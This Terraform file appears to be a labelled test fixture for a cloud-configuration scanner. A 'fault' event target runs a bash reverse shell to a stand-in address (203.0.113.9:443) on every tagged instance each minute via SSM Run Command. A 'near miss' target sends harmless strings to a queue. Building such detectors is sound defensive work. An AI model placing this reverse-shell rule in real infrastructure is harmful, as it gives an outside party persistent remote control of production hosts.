# An event rule runs a shell command on instances every minute.
# Source: https://docs.aws.amazon.com/eventbridge/latest/userguide/eb-targets.html (SSM Run Command)
# Fault at: aws_cloudwatch_event_target.evrun_fault
# Near miss at: aws_cloudwatch_event_target.evrun_near

resource "aws_cloudwatch_event_rule" "evrun_rule" {
  name                = "shop-prod-evrun"
  schedule_expression = "rate(1 minute)"
}

resource "aws_iam_role" "evrun_role" {
  name               = "shop-prod-evrun-role"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "events.amazonaws.com" } }] })
}

resource "aws_cloudwatch_event_target" "evrun_fault" {
  rule     = aws_cloudwatch_event_rule.evrun_rule.name
  arn      = "arn:aws:ssm:${var.region}::document/AWS-RunShellScript"
  role_arn = aws_iam_role.evrun_role.arn
  input    = jsonencode({ commands = ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1"] })

  run_command_targets {
    key    = "tag:Project"
    values = ["shop"]
  }
}

resource "aws_sqs_queue" "evrun_queue" {
  name                    = "shop-prod-evrun"
  sqs_managed_sse_enabled = true
}

# The word "commands" in a message to a queue.
resource "aws_cloudwatch_event_target" "evrun_near" {
  rule  = aws_cloudwatch_event_rule.evrun_rule.name
  arn   = aws_sqs_queue.evrun_queue.arn
  input = jsonencode({ commands = ["refresh-cache", "bash-completion"] })

  dead_letter_config {
    arn = aws_sqs_queue.evrun_queue.arn
  }
}
